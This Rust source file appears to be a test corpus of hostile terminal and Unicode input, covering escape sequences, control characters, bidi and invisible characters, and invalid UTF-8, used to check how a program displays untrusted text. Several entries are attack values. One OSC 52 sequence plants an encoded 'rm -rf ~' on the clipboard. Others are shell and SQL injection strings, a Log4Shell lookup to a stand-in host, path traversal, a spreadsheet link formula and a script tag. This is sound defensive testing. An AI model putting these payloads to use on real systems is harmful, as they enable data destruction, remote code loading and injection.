//! Text that a customer, a cluster or a clipboard may hold and that a terminal would act on, hide or misplace.

/// What it is, and the text. Each has an “A” before and a “Z” behind where that changes nothing of what it tests.
pub fn corpus() -> Vec<(&'static str, String)> {
    let mut all: Vec<(&'static str, String)> = CORPUS.iter().map(|(what, text)| (*what, (*text).to_owned())).collect();
    all.push(("every C0", (0..0x20).map(char::from).collect()));
    all.push(("every C1", (0x80..0xA0_u8).map(char::from).collect()));
    all.push(("marks, a flood", format!("A{}Z", "\u{335}\u{489}\u{20DD}".repeat(120))));
    all.push(("tags, a whole sentence of them", "A".to_owned() + &"trust me".chars().map(tag).collect::<String>()));
    all.push(("very long, without a space", "long".repeat(2500)));
    all.push(("very long, of wide letters", "電".repeat(2000)));
    all.push(("many words", "word ".repeat(1500)));
    all.push(("many lines", "line\n".repeat(400)));
    all.push(("sequences without end", "\u{1b}[".repeat(300)));
    all
}

/// How many texts are passed over after each that is taken. All are taken where the program is optimised, as `.ci/run`
/// has it; without that the long ways through the screens would take minutes.
#[allow(dead_code, reason = "not every binary goes these ways")]
pub const STRIDE: usize = if cfg!(debug_assertions) { 11 } else { 1 };

/// The invisible twin of an ASCII letter.
fn tag(c: char) -> char {
    char::from_u32(0xE0000 + u32::from(c)).expect("a tag")
}

const CORPUS: &[(&str, &str)] = &[
    ("CSI, colour", "A\u{1b}[31mred\u{1b}[0mZ"),
    ("CSI, clear the screen", "A\u{1b}[2J\u{1b}[HZ"),
    ("CSI, scroll region", "A\u{1b}[1;3rZ"),
    ("CSI, cursor away", "A\u{1b}[24;80H\u{1b}[10AZ"),
    ("CSI, insert lines", "A\u{1b}[99L\u{1b}[4hZ"),
    ("CSI, mouse and alternate screen", "A\u{1b}[?1000h\u{1b}[?1049lZ"),
    ("CSI, end of a paste", "A\u{1b}[201~\rqZ"),
    ("CSI, beginning of a paste", "A\u{1b}[200~Z"),
    ("CSI, asks for the cursor", "A\u{1b}[6n\u{1b}[c\u{1b}[>cZ"),
    ("CSI, asks for the title", "A\u{1b}[21tZ"),
    ("CSI, minimise the window", "A\u{1b}[2t\u{1b}[8;1;1tZ"),
    ("CSI, repeat", "A\u{1b}[9999bZ"),
    ("CSI, without its end", "A\u{1b}[38;5;"),
    ("a reply, cursor position", "\u{1b}[24;80R"),
    ("a reply, what terminal this is", "\u{1b}[?64;1;2;6;22c\u{1b}[>1;10;0c"),
    ("a reply, background colour", "\u{1b}]11;rgb:1c1c/1c1c/1c1c\u{1b}\\"),
    ("OSC 0, title", "A\u{1b}]0;owned\u{7}Z"),
    ("OSC 2, title with ST", "A\u{1b}]2;owned\u{1b}\\Z"),
    ("OSC 4, palette", "A\u{1b}]4;0;#ff0000\u{7}Z"),
    ("OSC 8, link", "A\u{1b}]8;;https://evil.example\u{1b}\\link\u{1b}]8;;\u{1b}\\Z"),
    ("OSC 52, clipboard", "A\u{1b}]52;c;cm0gLXJmIH4K\u{7}Z"),
    ("OSC 52, asks", "A\u{1b}]52;c;?\u{7}Z"),
    ("OSC 777, notification", "A\u{1b}]777;notify;a;b\u{7}Z"),
    ("OSC 1337, file", "A\u{1b}]1337;File=inline=1:AAAA\u{7}Z"),
    ("OSC, without its end", "A\u{1b}]0;owned"),
    ("DCS, asks", "A\u{1b}P$qm\u{1b}\\Z"),
    ("DCS, sixel", "A\u{1b}Pq#0;2;0;0;0~~\u{1b}\\Z"),
    ("DCS, through tmux", "A\u{1b}Ptmux;\u{1b}\u{1b}]0;owned\u{7}\u{1b}\\Z"),
    ("APC, kitty", "A\u{1b}_Ga=T,f=100;AAAA\u{1b}\\Z"),
    ("PM", "A\u{1b}^message\u{1b}\\Z"),
    ("SOS", "A\u{1b}Xstring\u{1b}\\Z"),
    ("a reset", "A\u{1b}cZ"),
    ("another character set", "A\u{1b}(0lqqk\u{e}lqqk\u{f}Z"),
    ("screen alignment", "A\u{1b}#8Z"),
    ("8-bit CSI", "A\u{9b}31mZ"),
    ("8-bit OSC", "A\u{9d}0;owned\u{9c}Z"),
    ("8-bit DCS", "A\u{90}q\u{9c}Z"),
    ("C1, next line and reverse index", "A\u{85}B\u{8d}Z"),
    ("ESC at the end", "A\u{1b}"),
    ("ESC alone", "\u{1b}"),
    ("ESC twice", "A\u{1b}\u{1b}[AZ"),
    ("NUL", "A\0Z"),
    ("BEL", "A\u{7}\u{7}\u{7}Z"),
    ("DEL", "A\u{7f}Z"),
    ("backspaces that hide", "evil\u{8}\u{8}\u{8}\u{8}good"),
    ("CR that overprints", "evil\rgood"),
    ("CR LF", "A\r\nZ"),
    ("line feeds", "A\n\n\nZ"),
    ("vertical tab and form feed", "A\u{b}\u{c}Z"),
    ("tabs", "A\t\tZ\t"),
    ("XON, XOFF, Ctrl-Z", "A\u{11}\u{13}\u{1a}\u{1c}Z"),
    ("line and paragraph separators", "A\u{2028}B\u{2029}Z"),
    ("bidi, override", "A\u{202e}gpj.exe\u{202c}Z"),
    ("bidi, embeddings", "A\u{202a}B\u{202b}C\u{202d}Z"),
    ("bidi, isolates", "A\u{2066}B\u{2067}C\u{2068}D\u{2069}Z"),
    ("bidi, marks", "A\u{200e}B\u{200f}C\u{61c}Z"),
    ("zero width", "A\u{200b}B\u{200c}C\u{200d}D\u{2060}Z"),
    ("zero width, alone", "\u{200b}"),
    ("byte order mark", "\u{feff}AZ"),
    ("soft hyphens", "A\u{ad}\u{ad}Z"),
    ("tags", "A\u{e0001}\u{e0041}\u{e007f}Z"),
    ("variation selectors", "A\u{fe0f}B\u{fe00}C\u{e0100}Z"),
    ("fillers", "A\u{3164}B\u{115f}C\u{1160}D\u{ffa0}Z"),
    ("an empty Braille cell", "A\u{2800}Z"),
    ("Mongolian and Khmer, nothing", "A\u{180e}\u{180b}\u{17b4}Z"),
    ("shorthand and musical controls", "A\u{1bca0}\u{1d173}Z"),
    ("interlinear", "A\u{fff9}B\u{fffa}C\u{fffb}Z"),
    ("no characters", "A\u{fdd0}\u{fffe}\u{ffff}\u{10ffff}Z"),
    ("private use", "A\u{e000}\u{f8ff}\u{f0000}\u{100000}Z"),
    ("unassigned", "A\u{378}\u{e0fff}Z"),
    ("marks, none to stand on", "\u{301}\u{302}AZ"),
    ("marks, two letters of them", "Zu\u{308}\u{301}rich e\u{301}"),
    ("a mark after a space", "A \u{20d2}Z"),
    ("enclosing marks", "A\u{20dd}\u{20e0}Z"),
    ("families", "A👩\u{200d}👩\u{200d}👧\u{200d}👦Z"),
    ("skin tones", "A👍🏽👍🏿🏽Z"),
    ("flags, and half of one", "A🇩🇪🇫🇷🇩Z"),
    ("a flag of tags", "A🏴\u{e0067}\u{e0062}\u{e0065}\u{e006e}\u{e0067}\u{e007f}Z"),
    ("keycaps and hearts", "A1\u{fe0f}\u{20e3}❤\u{fe0f}Z"),
    ("wide", "電話会社ＡＢＣ"),
    ("ambiguous", "Aα…°±§※①★Z"),
    ("half width, voiced", "ｶﾞｷﾞﾟ\u{ff9e}Z"),
    ("half width, a mark alone", "\u{ff9e}\u{ff9f}"),
    ("Hangul in pieces", "\u{1100}\u{1161}\u{11a8}\u{1161}\u{11a8}Z"),
    ("Hebrew", "חברת שלום בע״מ"),
    ("Hebrew with points", "שָׁלוֹם A"),
    ("Arabic", "شركة الاتصالات لا"),
    ("Arabic, number signs", "\u{600}12\u{6dd}34\u{70f}Z"),
    ("the longest ligature", "A\u{fdfd}\u{fdfd}Z"),
    ("Devanagari", "क्षत्रिय ज्ञान हिन्दी"),
    ("Tibetan", "བོད་སྐད་ཧཱུྃ"),
    ("Thai", "บริษัท น้ำ"),
    ("NBSP before and behind", "\u{a0}\u{3000}AZ\u{2003}\u{a0}"),
    ("spaces only", " \u{a0}\u{2009} "),
    ("format strings", "%s%n%x {} {0} {name:?} %1$s"),
    ("shell", "$(reboot) `reboot` ; reboot && \"'\\"),
    ("SQL", "Robert'); DROP TABLE account;-- \" OR 1=1"),
    ("SQL patterns", "%_[a-z]*?\\"),
    ("FTS", "\"A\" NEAR(B) OR name:* AND -Z ^"),
    ("JSON", "\"}],\"name\":\"\\u001b[31m\\\\\",{"),
    ("a look-up", "${jndi:ldap://evil.example/a}"),
    ("paths", "../../../../etc/passwd\\..\\C:"),
    ("a spreadsheet's formula", "=HYPERLINK(\"http://evil.example\")"),
    ("HTML", "<script>alert(1)</script>&#27;[31m"),
    ("an option", "--db"),
    ("frames of our own", "│ ╰──╯ ‹ Save ✓ › !"),
    ("empty", ""),
];

/// Bytes that are no UTF-8: lone surrogates, Latin-1 controls, cut and overlong characters.
#[allow(dead_code, reason = "not every binary sends bytes")]
pub const NO_UTF8: &[(&str, &[u8])] = &[
    ("a lone surrogate", b"A\xed\xa0\x80Z"),
    ("8-bit CSI in Latin-1", b"A\x9b31mZ"),
    ("8-bit OSC in Latin-1", b"A\x9d0;owned\x9cZ"),
    ("a cut character", b"A\xe2\x82"),
    ("an overlong ESC", b"A\xc0\x9b[31mZ"),
    ("beyond Unicode", b"A\xf4\x90\x80\x80Z"),
    ("no text at all", b"\xff\xfe\xfd"),
];
